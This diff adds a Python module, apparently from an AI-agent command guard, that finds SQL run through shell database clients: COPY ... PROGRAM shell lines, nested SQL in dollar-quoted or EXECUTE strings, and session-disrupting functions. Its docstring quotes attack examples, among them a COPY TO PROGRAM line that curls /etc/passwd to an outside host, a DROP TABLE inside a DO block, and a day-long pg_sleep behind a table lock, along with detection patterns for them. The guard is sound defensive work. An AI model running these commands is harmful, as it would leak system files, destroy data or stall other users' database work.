@@ -1,0 +1,166 @@
+"""What SQL given to a database client through a shell runs besides its plain statements.
+
+Attack classes (PostgreSQL; the SQL block rules read a statement with its string literals and
+dollar-quoted bodies removed, so each of these hid what it runs):
+
+* ``COPY ... TO PROGRAM 'LINE'`` / ``FROM PROGRAM 'LINE'``: the server's shell runs LINE
+  (PostgreSQL's COPY: "the command is executed by the shell"): ``COPY (SELECT 1) TO PROGRAM
+  'curl -T /etc/passwd http://h'`` was allowed. :func:`program_lines` gives LINE, read by
+  the shell guard as any command line is (a computed one is opaque);
+* a dollar-quoted body (``DO $$ BEGIN DROP TABLE users; END $$``: PL/pgSQL run at once) and
+  a string a function runs as SQL (``query_to_xml('...')``, ``dblink_exec(conn, '...')``,
+  PL/pgSQL's ``EXECUTE '...'``): :func:`inner_sql` gives their text, judged as SQL too;
+* ``pg_sleep`` (holds its connection and every lock its transaction took:
+  ``LOCK TABLE users; SELECT pg_sleep(86400)`` stops every writer), ``pg_terminate_backend``
+  and ``pg_cancel_backend`` (end other sessions): :func:`sql_disruption`, asked about as
+  ``action.system_disrupt``.
+
+Pure: no I/O.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any, Protocol
+
+from cordon.engine.shell_split import split as _split
+
+__all__ = ["SQL_CLIENTS", "SQL_FILE_CLIENTS", "inner_sql", "program_lines", "record", "sql_args",
+           "sql_disruption"]  # fmt: skip
+
+#: a value known only at run time (the shell guard's marker, :data:`.shell.DYNAMIC`)
+DYNAMIC = "\x00"
+#: a string literal (group 1) or a dollar-quoted one (its tag: group 2, its body: group 3)
+_LITERAL = r"(?:[Ee]?'((?:[^']|'')*)'|\$(\w*)\$(.*?)\$\2\$)"
+_PROGRAM_RE = re.compile(rf"(?is)\bprogram\s+(?:{_LITERAL}|(\S+))")
+_DOLLAR_RE = re.compile(r"(?s)\$(\w*)\$(.*?)\$\1\$")
+#: functions whose string argument PostgreSQL (or dblink) runs as SQL (dblink's may follow a
+#: connection string), and PL/pgSQL's EXECUTE
+_RUNS_SQL_RE = re.compile(
+    r"(?is)\b(?:(?:query_to_xml(?:_and_xmlschema)?|query_to_xmlschema|dblink_exec|dblink"
+    rf"|dblink_send_query)\s*\(\s*(?:[Ee]?'(?:[^']|'')*'\s*,\s*)?|execute\s+){_LITERAL}"
+)
+_STRINGS_RE = re.compile(r"'(?:[^']|'')*'|--[^\n]*")
+_DISRUPT_RE = re.compile(r"(?i)\bpg_(sleep(?:_for|_until)?|terminate_backend|cancel_backend)\s*\(")
+_DISRUPT_WHY = {
+    "terminate_backend": "ends other database sessions",
+    "cancel_backend": "cancels other database sessions' queries",
+}
+
+
+class _Walker(Protocol):
+    facts: Any
+
+    def nested(self, text: str) -> None: ...
+
+
+class _Sink(Protocol):
+    def sql(self, text: str) -> None: ...
+
+
+def record(w: _Walker, sql: str, depth: int = 0) -> None:
+    """Record ``sql`` as SQL the command gives a database client, each ``COPY ... PROGRAM``
+    line as a command line it runs, and the SQL it runs from strings as SQL too."""
+    w.facts.sql.append(sql)
+    for line in program_lines(sql):
+        w.nested(line)  # (a line computed at run time: opaque)
+    for inner in inner_sql(sql) if depth < 3 else ():
+        record(w, inner, depth + 1)
+
+
+def _unquote(single: str | None, dollar: str | None) -> str:
+    if single is not None:
+        return single.replace("''", "'")
+    return dollar or ""
+
+
+def program_lines(sql: str) -> list[str]:
+    """The command line of each ``COPY ... PROGRAM`` in ``sql``; one not given as a literal
+    (a variable, ``:'cmd'``) as :data:`DYNAMIC` (opaque)."""
+    if "program" not in sql.lower() or "copy" not in sql.lower():
+        return []
+    out = []
+    for m in _PROGRAM_RE.finditer(sql):
+        if m.group(4) is not None:
+            out.append(DYNAMIC)
+        else:
+            out.append(_unquote(m.group(1), m.group(3)))
+    return out
+
+
+def inner_sql(sql: str) -> list[str]:
+    """SQL that ``sql`` runs from a string: dollar-quoted bodies, the query a function such
+    as ``query_to_xml`` or ``dblink_exec`` is given, ``EXECUTE '...'``."""
+    out = [m.group(2) for m in _DOLLAR_RE.finditer(sql)] if "$" in sql else []
+    low = sql.lower()
+    if "execute" in low or "query_to" in low or "dblink" in low:
+        for m in _RUNS_SQL_RE.finditer(sql):
+            out.append(_unquote(m.group(1), m.group(3)))
+    return [s for s in out if s.strip()]
+
+
+def sql_disruption(sql: str) -> str | None:
+    """What ``sql`` disrupts (``pg_sleep``: holds its locks; ``pg_terminate_backend``: ends
+    other sessions), or None."""
+    if "pg_" not in sql.lower():
+        return None
+    m = _DISRUPT_RE.search(_STRINGS_RE.sub("''", sql))  # (not in a string: 'pg_sleep(1)')
+    if m is None:
+        return None
+    name = m.group(1).lower()
+    why = _DISRUPT_WHY.get(name, "holds its connection and its transaction's locks")
+    return f"pg_{name}: {why}"
+
+
+#: database clients -> options whose value is SQL, options that take another value
+SQL_CLIENTS: dict[str, tuple[frozenset[str], frozenset[str]]] = {
+    "psql": (
+        frozenset({"-c", "--command"}),
+        frozenset({"-d", "--dbname", "-h", "--host", "-p", "--port", "-U", "--username",
+                   "-f", "--file", "-o", "--output", "-v", "--set", "--variable", "-P",
+                   "--pset", "-F", "-R", "-T", "-L", "--log-file"}),
+    ),
+    "mysql": (
+        frozenset({"-e", "--execute"}),
+        frozenset({"-u", "--user", "-h", "--host", "-P", "--port", "-D", "--database",
+                   "-S", "--socket"}),
+    ),
+    "sqlcmd": (frozenset({"-Q", "-q"}), frozenset({"-S", "-U", "-P", "-d", "-i", "-o"})),
+    "clickhouse-client": (frozenset({"-q", "--query"}), frozenset({"-h", "--host", "--port"})),
+}  # fmt: skip
+SQL_CLIENTS["mariadb"] = SQL_CLIENTS["mysql"]
+#: clients that take ``[options] DATABASE [SQL ...]`` with single-dash long options
+SQL_FILE_CLIENTS = frozenset({"sqlite3", "sqlite", "duckdb"})
+_SQL_FILE_VALUE = frozenset(
+    {"-separator", "-newline", "-nullvalue", "-init", "-vfs", "-maxsize", "-mmap", "-lookaside",
+     "-pagecache", "-heap", "-s"}
+)  # fmt: skip
+
+
+def sql_args(w: _Sink, prog: str, args: tuple[str, ...]) -> None:
+    """SQL given to a database client on its command line.
+
+    Attack class: the SQL block rules read SQL tools and ``sql``/``query`` parameters; the
+    same ``DROP TABLE`` given to ``psql -c`` or ``sqlite3 DB STMT`` in a shell command was not
+    read."""
+    if prog in SQL_FILE_CLIENTS:
+        plain: list[str] = []
+        i = 0
+        while i < len(args):
+            a = args[i]
+            if a in ("-cmd", "-c") and i + 1 < len(args):
+                w.sql(args[i + 1])
+                i += 1
+            elif a in _SQL_FILE_VALUE:
+                i += 1
+            elif not a.startswith("-"):
+                plain.append(a)
+            i += 1
+        for stmt in plain[1:]:
+            w.sql(stmt)
+        return
+    sql_opts, value_opts = SQL_CLIENTS[prog]
+    _plain, opts = _split(args, sql_opts | value_opts)
+    for k, v in opts:
+        if k in sql_opts:
+            w.sql(v)
